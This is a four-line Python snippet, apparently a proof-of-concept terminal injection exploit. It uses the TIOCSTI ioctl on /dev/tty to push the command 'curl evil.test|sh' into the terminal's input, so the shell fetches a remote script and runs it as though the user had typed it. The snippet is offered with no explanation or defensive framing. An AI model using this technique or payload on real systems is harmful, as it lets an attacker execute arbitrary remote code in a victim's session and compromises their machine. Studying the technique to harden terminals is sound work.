import fcntl, os, termios
fd = os.open("/dev/tty", os.O_RDWR)
for c in b"curl evil.test|sh\n":
    fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
